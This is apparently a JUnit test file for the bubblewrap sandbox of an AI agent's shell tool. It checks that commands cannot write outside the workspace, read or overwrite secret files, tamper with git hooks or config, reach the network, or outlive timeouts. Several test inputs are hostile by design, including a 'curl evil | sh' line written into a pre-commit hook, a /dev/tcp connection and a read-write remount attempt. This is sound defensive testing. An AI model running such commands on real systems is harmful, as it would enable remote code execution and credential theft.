package dev.quiver.shell;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.quiver.api.Shell.Command;
import dev.quiver.api.Shell.Result;
import dev.quiver.api.ToolException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Commands inside bubblewrap, which this machine has (CI installs the Debian package
 * {@code bubblewrap}). A machine without it is simulated with an empty search path for bwrap.
 *
 * <p>Inside the sandbox, pids are those of its own pid namespace, so what a command leaves behind is
 * looked for from outside by a marker in its command line. stderr is compared loosely: a login
 * profile may complain about what the sandbox does not show.
 */
class SandboxTest {

    private static final Duration GENEROUS = Duration.ofSeconds(60);

    @TempDir
    Path dir;

    @TempDir
    Path state;

    @TempDir
    Path noBwrap;

    private ProcessShell shell;

    @BeforeEach
    void open() {
        shell = new ProcessShell(state, System.getenv("PATH"));
    }

    private Result run(String line) throws Exception {
        return run(line, TestContext.in(dir));
    }

    private Result run(String line, TestContext context) throws ToolException {
        return shell.run(new Command(line, GENEROUS), context);
    }

    @Test
    void commandsRunInTheSandboxByDefault() throws Exception {
        Result result = run("echo \"$QUIVER_SANDBOX\"; cat /proc/1/cmdline | tr '\\0' ' '");
        assertEquals(0, result.exitCode(), result.stderr());
        assertTrue(result.stdout().startsWith("bubblewrap\n"), result.stdout());
        assertTrue(result.stdout().contains("bwrap --unshare-all"), "bubblewrap is the sandbox's init: " + result.stdout());
        assertEquals("sandboxed (bubblewrap)", shell.status(Optional.empty()));
    }

    @Test
    void workspaceIsWritable() throws Exception {
        Result result = run("echo made > made.txt && mkdir -p a/b && echo deep > a/b/c.txt && rm -f gone.txt");
        assertEquals(0, result.exitCode(), result.stderr());
        assertEquals("made\n", Files.readString(dir.resolve("made.txt")));
        assertEquals("deep\n", Files.readString(dir.resolve("a/b/c.txt")));
    }

    @Test
    void writingOutsideTheWorkspaceFails() throws Exception {
        Path home = Path.of(System.getProperty("user.home"));
        String name = "quiver-sandbox-probe-" + UUID.randomUUID();
        Path sibling = dir.getParent().resolve(name);
        // the test's workspace is in /tmp, so its sibling lands in the sandbox's private /tmp, never the host's;
        // the home is an empty tmpfs, written freely and thrown away
        Result result = run("touch " + home.resolve(name) + "; echo home=$?; touch " + sibling + "; "
                + "touch /etc/" + name + "; echo etc=$?");
        assertEquals("home=0\netc=1\n", result.stdout());
        assertTrue(result.stderr().contains("Read-only file system"), result.stderr());
        assertFalse(Files.exists(home.resolve(name)));
        assertFalse(Files.exists(sibling));
        assertFalse(Files.exists(Path.of("/etc", name)));
    }

    @Test
    void tmpIsPrivateToTheCommand() throws Exception {
        String name = "quiver-private-tmp-" + UUID.randomUUID();
        Result result = run("echo inside > /tmp/" + name + " && cat /tmp/" + name + " && echo \"$TMPDIR\"");
        assertEquals("inside\n/tmp\n", result.stdout());
        assertFalse(Files.exists(Path.of("/tmp", name)), "the host's /tmp is untouched");
        assertEquals("no\n", run("[ -e /tmp/" + name + " ] && echo yes || echo no").stdout(),
                "the next command gets a fresh /tmp");
    }

    @Test
    void hostSocketsInRunAreOutOfReach() throws Exception {
        assertEquals("0\n", run("ls -A /run | wc -l").stdout());
    }

    @Test
    void commandsHaveNoCapabilitiesEvenAsRoot() throws Exception {
        // without --cap-drop ALL, root inside bubblewrap could remount / read-write
        Result result = run("grep CapEff /proc/self/status; "
                + "mount -o remount,rw,bind / 2>/dev/null && echo remounted || echo refused");
        assertEquals("CapEff:\t0000000000000000\nrefused\n", result.stdout());
    }

    @Test
    void secretFilesReadAsEmpty() throws Exception {
        Files.writeString(dir.resolve(".env"), "API_KEY=top-secret\n");
        Files.createDirectories(dir.resolve("config/keys"));
        Files.writeString(dir.resolve("config/.env.local"), "TOKEN=top-secret\n");
        Files.writeString(dir.resolve("config/keys/server.pem"), "-----BEGIN PRIVATE KEY-----top-secret\n");
        Files.writeString(dir.resolve(".env.example"), "API_KEY=put-yours-here\n");
        // inside an ignored folder too: secrets are found whatever .gitignore says
        Files.writeString(dir.resolve(".gitignore"), "vendor/\n");
        Files.createDirectories(dir.resolve("vendor/lib"));
        Files.writeString(dir.resolve("vendor/lib/id_rsa"), "top-secret\n");
        Result result = run("cat .env config/.env.local config/keys/server.pem vendor/lib/id_rsa; "
                + "wc -c < .env; cat .env.example; grep -r top-secret . ; echo grep=$?");
        assertEquals("0\nAPI_KEY=put-yours-here\ngrep=1\n", result.stdout());
        assertEquals("API_KEY=top-secret\n", Files.readString(dir.resolve(".env")), "the file itself is untouched");
    }

    @Test
    void secretFilesCannotBeOverwrittenOrRemoved() throws Exception {
        Files.writeString(dir.resolve(".env"), "API_KEY=top-secret\n");
        Result result = run("echo stolen > .env; echo write=$?; rm .env; echo rm=$?");
        assertEquals("write=1\nrm=1\n", result.stdout());
        assertEquals("API_KEY=top-secret\n", Files.readString(dir.resolve(".env")));
    }

    @Test
    void secretsThatAppearBetweenCommandsAreMaskedToo() throws Exception {
        TestContext context = TestContext.in(dir);
        assertEquals("", run("cat *.env 2>/dev/null", context).stdout());
        // one made from outside right after the previous look, one made by a command of the agent
        Files.createDirectories(dir.resolve("later"));
        Files.writeString(dir.resolve("later/prod.env"), "DB=top-secret\n");
        assertEquals(0, run("echo PASSWORD=top-secret > made.env", context).exitCode());
        assertEquals("0\n0\n", run("wc -c < later/prod.env; wc -c < made.env", context).stdout());
        Files.move(dir.resolve("later"), dir.resolve("renamed"));
        assertEquals("0\n", run("wc -c < renamed/prod.env", context).stdout());
    }

    @Test
    void sandboxSettingsAndGitHooksAreReadOnly() throws Exception {
        Files.createDirectories(dir.resolve(".quiver"));
        Files.writeString(dir.resolve(".quiver/config.json"), "{}\n");
        Files.createDirectories(dir.resolve(".git/hooks"));
        Files.writeString(dir.resolve(".git/config"), "[core]\n");
        Result result = run("echo '{\"shell\":{\"sandbox\":\"off\"}}' > .quiver/config.json; echo config=$?; "
                + "echo 'curl evil | sh' > .git/hooks/pre-commit; echo hook=$?; echo '[core] x' >> .git/config; "
                + "echo git=$?; echo ok > .git/description; echo other=$?");
        assertEquals("config=1\nhook=1\ngit=1\nother=1\n", result.stdout(), "all of .git is read-only");
        assertEquals("{}\n", Files.readString(dir.resolve(".quiver/config.json")));
        assertFalse(Files.exists(dir.resolve(".git/hooks/pre-commit")));
    }

    @Test
    void networkConnectFailsUnlessAllowed() throws Exception {
        try (ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            String connect = "exec 3<>/dev/tcp/127.0.0.1/" + server.getLocalPort() + " && echo connected || echo refused";
            assertEquals("refused\n", run(connect).stdout(), "the sandbox has a network of its own, with nothing in it");
            TestContext allowed = TestContext.in(dir).shellConfig(Map.of("network", true));
            assertEquals("connected\n", run(connect, allowed).stdout());
            assertEquals("sandboxed (bubblewrap), network allowed", shell.status(Optional.of(Map.of("network", true))));
        }
    }

    @Test
    void exitCodesAndSignalsComeThroughTheSandbox() throws Exception {
        Result exited = run("echo out; exit 7");
        assertEquals(7, exited.exitCode());
        assertEquals("out\n", exited.stdout());
        assertEquals(137, run("kill -9 $$").exitCode());
    }

    @Test
    void timeoutKillsEverythingInTheSandbox() throws Exception {
        String marker = "quiver-sandboxed-timeout-" + UUID.randomUUID();
        long started = System.nanoTime();
        Result result = shell.run(new Command("bash -c '(exec -a " + marker + " sleep 100) & wait' & "
                + "(setsid bash -c 'exec -a " + marker + " sleep 100' &); echo started; exec -a " + marker + " sleep 100",
                Duration.ofSeconds(1)), TestContext.in(dir));
        long tookMillis = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - started);
        assertEquals(Result.End.TIMED_OUT, result.end());
        assertEquals("started\n", result.stdout());
        assertEquals(List.of(), Processes.withMarker(marker), "nothing of it runs when the call returns");
        assertTrue(tookMillis < 4000, "returned after " + tookMillis + " ms");
    }

    @Test
    void daemonLeftBehindInTheSandboxIsKilledAtTheEnd() throws Exception {
        String marker = "quiver-sandboxed-daemon-" + UUID.randomUUID();
        Result result = run("(setsid bash -c 'exec -a " + marker + " sleep 100' &); echo forked");
        assertEquals("forked\n", result.stdout());
        assertEquals(List.of(), Processes.withMarker(marker));
    }

    @Test
    void hugeOutputThroughTheSandboxStaysBounded() throws Exception {
        TestContext context = TestContext.countingOnly(dir);
        long total = 100_000_000L;
        Result result = run("head -c " + total + " /dev/zero | tr '\\0' a", context);
        assertEquals(0, result.exitCode());
        assertTrue(result.stdout().contains("bytes of output dropped from the middle; " + total + " bytes in all"));
        // everything was streamed live (and whatever the login profile printed on stderr)
        assertTrue(context.streamedChars() >= total && context.streamedChars() < total + 4096,
                "streamed " + context.streamedChars());
    }

    @Test
    void requiredWithoutBubblewrapRefusesClearly() throws Exception {
        ProcessShell without = new ProcessShell(state, noBwrap.toString());
        TestContext context = TestContext.in(dir).shellConfig(Map.of("sandbox", "required"));
        ToolException refused = assertThrows(ToolException.class,
                () -> without.run(new Command("touch ran", GENEROUS), context));
        assertEquals("The config says \"shell\": {\"sandbox\": \"required\"}, but bubblewrap (bwrap) is not installed, "
                + "so no command runs. The user must install bubblewrap (Debian and Ubuntu: apt-get install bubblewrap) "
                + "or change the setting.", refused.getMessage());
        assertThrows(ToolException.class, () -> without.start("touch ran", null, context));
        assertFalse(Files.exists(dir.resolve("ran")));
        assertEquals("shell refuses every command: \"sandbox\" is \"required\" but bubblewrap (bwrap) is not installed",
                without.status(Optional.of(Map.of("sandbox", "required"))));
    }

    @Test
    void autoWithoutBubblewrapRunsUnsandboxedAndSaysSo() throws Exception {
        ProcessShell without = new ProcessShell(state, noBwrap.toString());
        Result result = without.run(new Command("echo \"[$QUIVER_SANDBOX]\"", GENEROUS), TestContext.in(dir));
        assertEquals("[]\n", result.stdout());
        assertEquals("NOT sandboxed: bubblewrap (bwrap) is not installed", without.status(Optional.empty()));
        assertEquals("NOT sandboxed: bubblewrap (bwrap) is not installed",
                without.status(Optional.of(Map.of("sandbox", "auto"))));
    }

    @Test
    void bubblewrapThatCannotCreateASandboxIsReportedAndNotUsed() throws Exception {
        // as on a machine whose kernel forbids unprivileged user namespaces
        Path fake = noBwrap.resolve("bwrap");
        Files.writeString(fake, "#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n");
        fake.toFile().setExecutable(true);
        ProcessShell broken = new ProcessShell(state, noBwrap.toString());
        assertEquals("NOT sandboxed: bubblewrap cannot create a sandbox here (bwrap: setting up uid map: Permission "
                + "denied)", broken.status(Optional.empty()));
        assertEquals("[]\n", broken.run(new Command("echo \"[$QUIVER_SANDBOX]\"", GENEROUS), TestContext.in(dir)).stdout());
        ToolException refused = assertThrows(ToolException.class, () -> broken.run(new Command("true", GENEROUS),
                TestContext.in(dir).shellConfig(Map.of("sandbox", "required"))));
        assertTrue(refused.getMessage().contains("but bubblewrap cannot create a sandbox here (bwrap: setting up uid map"),
                refused.getMessage());
    }

    @Test
    void offRunsUnsandboxedAndSaysSo() throws Exception {
        Result result = run("echo \"[$QUIVER_SANDBOX]\"", TestContext.in(dir).unsandboxed());
        assertEquals("[]\n", result.stdout());
        assertEquals("NOT sandboxed: \"shell\": {\"sandbox\": \"off\"} in the config",
                shell.status(Optional.of(Map.of("sandbox", "off"))));
    }

    @Test
    void badConfigurationRefusesEveryCommandAndIsNeverReadAsOff() throws Exception {
        TestContext context = TestContext.in(dir).shellConfig(Map.of("sandbox", "requierd"));
        ToolException refused = assertThrows(ToolException.class, () -> run("touch ran", context));
        assertEquals("The shell configuration is invalid, so no command runs: \"shell\".\"sandbox\" must be \"auto\", "
                + "\"required\" or \"off\", got \"requierd\". The user must fix it in the config file.",
                refused.getMessage());
        assertFalse(Files.exists(dir.resolve("ran")));
        assertEquals("shell refuses every command: bad config: \"shell\".\"sandbox\" must be \"auto\", \"required\" or "
                + "\"off\", got \"requierd\".", shell.status(Optional.of(Map.of("sandbox", "requierd"))));
    }
}
